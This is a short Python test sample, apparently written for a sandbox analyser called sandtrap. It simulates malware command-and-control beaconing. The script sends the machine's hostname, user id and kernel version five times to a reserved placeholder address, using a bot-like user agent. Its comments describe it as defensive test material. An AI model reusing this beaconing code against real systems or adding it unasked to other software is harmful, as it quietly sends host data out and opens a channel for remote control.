#!/usr/bin/python3
# C2 beaconing: urllib check-ins every second with host data, polling for tasks, five times.
# Harmless test sample for sandtrap: it only acts on the disposable guest (decoy files,
# simulated internet, reserved addresses). Stored without the exec bit; never run it on a
# host, only through `sandtrap analyze`.
import json, os, platform, time, urllib.request

host = {"h": platform.node(), "u": os.getuid(), "k": platform.release()}
for seq in range(5):
    req = urllib.request.Request(
        "http://198.51.100.9/gate.php?seq=%d" % seq,
        data=json.dumps(host).encode(),
        headers={"User-Agent": "Mozilla/4.0 (compatible; bot/1.3)"},
    )
    try:
        urllib.request.urlopen(req, timeout=2).read()
    except Exception as err:  # the reply may be short or refused
        print("beacon failed:", err)
    time.sleep(1)
print("done")
